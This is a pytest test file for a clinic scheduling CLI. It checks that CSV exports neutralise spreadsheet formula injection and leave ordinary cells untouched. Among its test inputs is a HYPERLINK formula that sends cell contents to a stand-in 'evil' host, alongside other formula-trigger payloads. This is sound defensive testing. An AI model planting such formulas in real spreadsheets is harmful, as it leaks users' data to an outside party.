"""Cells a spreadsheet would run as formulas are written as plain text in every CSV."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from tms_sched.cli import main
from tms_sched.io.schedule import neutralise_cell

FUZZ = Path(__file__).parent / "fixtures" / "fuzz"
TODAY = ["--today", "2027-01-04"]


@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(1+1)", "+1+1", "-1+1",
                                  "\t=1", "\r=1"])
def test_a_formula_in_a_note_is_written_as_text(tmp_path, monkeypatch, note):
    for kind in ("clinic", "roster", "schedule"):
        shutil.copy(FUZZ / f"base-{kind}.toml", tmp_path / f"{kind}.toml")
    monkeypatch.chdir(tmp_path)
    text = (tmp_path / "roster.toml").read_text().replace('id = "P-3"', 'id = "-P3"')
    (tmp_path / "roster.toml").write_text(text)
    assert CliRunner().invoke(main, ["plan", "clinic.toml", "--roster", "roster.toml", "-o", "s.toml", *TODAY]).exit_code == 0
    result = CliRunner().invoke(main, ["mark", "s.toml", "P-1", "2027-01-06", "cancelled", "--note", note, *TODAY])
    assert result.exit_code == 0, result.output
    assert CliRunner().invoke(main, ["plan", "clinic.toml", "--roster", "roster.toml", "--schedule", "s.toml",
                                     "-o", "s.csv", *TODAY]).exit_code == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "s.csv").read_bytes().decode(), newline="")))
    assert [r["note"] for r in rows if r["note"]] == ["'" + note]
    assert {r["patient"] for r in rows} == {"P-1", "P-2", "'-P3"}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plain_cells_stay_as_they_are():
    assert neutralise_cell("P-0001") == "P-0001"
    assert neutralise_cell("2027-01-06") == "2027-01-06"
    assert neutralise_cell(40) == 40
    assert neutralise_cell("") == ""
